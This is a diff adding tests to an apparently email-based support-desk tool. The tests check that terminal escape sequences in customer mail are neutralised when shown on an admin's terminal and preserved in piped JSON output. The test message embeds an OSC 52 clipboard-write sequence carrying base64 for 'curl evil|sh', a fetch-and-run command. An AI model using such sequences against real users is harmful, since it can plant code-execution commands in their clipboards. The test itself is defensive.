@@ -63,3 +63,54 @@ def test_a_koi8_terminal_reads_russian_and_a_question_mark_for_the_rest(desk):
     )
     assert run.returncode == 0, run.stderr.decode(errors="replace")
     assert "Оплата не проходит ?5 ?" in run.stdout.decode("koi8-r")  # KOI8-R has no «№»
+
+
+def _on_a_terminal(*argv: str) -> bytes:
+    """What a command prints to a terminal (a pseudo-terminal: stdout and stderr)."""
+    import pty
+
+    env = dict(os.environ, PYTHONPATH=str(ROOT), TERM="xterm")
+    leader, follower = pty.openpty()
+    try:
+        proc = subprocess.Popen(
+            [sys.executable, "-m", "maild", *argv], stdout=follower, stderr=follower, env=env
+        )
+        os.close(follower)
+        out = b""
+        while True:
+            try:
+                chunk = os.read(leader, 65536)
+            except OSError:  # EIO: the command ended and closed the terminal
+                break
+            if not chunk:
+                break
+            out += chunk
+        assert proc.wait(timeout=60) == 0, out
+        return out
+    finally:
+        os.close(leader)
+
+
+def test_escape_sequences_in_a_customers_mail_never_reach_the_admins_terminal(tmp_path):
+    """A customer's text can hold what a terminal acts on: colours, a window title,
+    the clipboard (OSC 52, "\\x1b]52;c;..."). On a terminal they show as "?"; in a
+    pipe the text stays as the customer wrote it."""
+    sink = Sink().start()
+    try:
+        desk = Desk(tmp_path, sink.port)
+        text = "Здравствуйте \x1b]52;c;Y3VybCBldmlsfHNo\x07 и \x1b[2J\x9b31m конец"
+        mail = (
+            "From: ivan@client.example\r\nTo: support@example.com\r\nSubject: esc\r\n"
+            "Message-ID: <esc1@client.example>\r\nContent-Type: text/plain; charset=utf-8\r\n"
+            f"Content-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(text.encode()).decode()}"
+        ).encode()
+        assert desk.run("ingest", input=mail).code == 0
+        (ticket,) = desk.run("ticket", "list", "--json").json()
+        shown = _on_a_terminal("--config", str(desk.config), "ticket", "show", ticket["tid"])
+        assert b"\x1b" not in shown and b"\x07" not in shown and "\x9b".encode() not in shown
+        assert "Здравствуйте ?]52;c;Y3VybCBldmlsfHNo? и ?[2J?31m конец" in shown.decode()
+        desk.in_process = False
+        piped = desk.run("ticket", "show", ticket["tid"], "--json").json()
+        assert piped["messages"][0]["text"].strip() == text
+    finally:
+        sink.stop()
